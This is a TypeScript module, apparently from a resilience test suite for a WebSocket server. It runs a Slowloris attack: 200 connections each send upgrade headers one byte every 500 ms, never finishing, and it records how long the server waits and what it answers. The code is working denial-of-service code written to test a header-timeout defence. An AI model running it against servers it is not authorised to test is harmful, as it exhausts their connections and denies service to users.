// Slowloris: upgrade requests sent a byte at a time, never finished. The defence is a deadline for the
// whole head (Node's headersTimeout); this measures how long the server waits and what it answers.
import { connect } from "node:net";
import { hostAndPort, statusOf } from "../../test/support/raw-http.ts";
import { upgradeRequestHead } from "../../test/support/wire/handshake.ts";
import { untilStopped, type Attack } from "../attack.ts";
import { inLanes } from "../connections.ts";

const connections = 200;
const byteEveryMs = 500;

export const slowloris: Attack = {
  name: "slowloris",
  summary: `${connections} TCP connections send upgrade headers one byte every ${byteEveryMs} ms, never finishing`,
  async run({ baseUrl, stop, reactions, details }) {
    // The request's valid headers, then one header whose value never ends.
    const stream = Buffer.from(`${upgradeRequestHead(baseUrl, "/echo")}X-Slowloris: `, "latin1");
    const requests: { socket: ReturnType<typeof connect>; sent: number; answer: string; closedAfterMs?: number; reset: boolean }[] = [];
    let connectFailures = 0;
    const ticker = setInterval(() => {
      for (const request of requests) {
        if (request.closedAfterMs !== undefined || request.socket.destroyed) continue;
        request.socket.write(request.sent < stream.length ? stream.subarray(request.sent, request.sent + 1) : "a");
        request.sent++;
      }
    }, byteEveryMs);

    await inLanes(connections, 50, stop, async () => {
      const socket = connect(hostAndPort(baseUrl)).setNoDelay(true).on("error", () => {});
      if (!(await new Promise<boolean>((resolve) => socket.once("connect", () => resolve(true)).once("close", () => resolve(false))))) return void connectFailures++;
      const connectedAt = performance.now();
      const request = { socket, sent: 0, answer: "", closedAfterMs: undefined as number | undefined, reset: false };
      // The first bytes of anything the server answers are enough for its status line.
      socket.on("data", (chunk: Buffer) => void (request.answer.length < 64 && (request.answer += chunk.toString("latin1", 0, 64))));
      socket.on("error", (error: NodeJS.ErrnoException) => void (request.reset ||= error.code === "ECONNRESET" || error.code === "EPIPE"));
      socket.on("close", () => void (stop.aborted || (request.closedAfterMs = performance.now() - connectedAt)));
      requests.push(request);
    });

    await untilStopped(stop);
    clearInterval(ticker);
    for (const request of requests) {
      const status = statusOf(request.answer);
      if (status !== undefined) reactions.count("handshakeAnswers", status);
      else reactions[request.reset ? "resets" : request.closedAfterMs !== undefined ? "endedWithoutCloseFrame" : "openAtEnd"]++;
      request.socket.destroy();
    }
    const closedAfter = requests.flatMap((request) => (request.closedAfterMs === undefined ? [] : [request.closedAfterMs])).sort((a, b) => a - b);
    const seconds = (ms: number) => Math.round(ms / 100) / 10;
    Object.assign(details, {
      connections: requests.length,
      connectFailures,
      headerBytesSentMax: Math.max(0, ...requests.map((request) => request.sent)),
      closedByServer: closedAfter.length,
      ...(closedAfter.length > 0 && { firstClosedAfterS: seconds(closedAfter[0]!), lastClosedAfterS: seconds(closedAfter.at(-1)!) }),
    });
  },
};
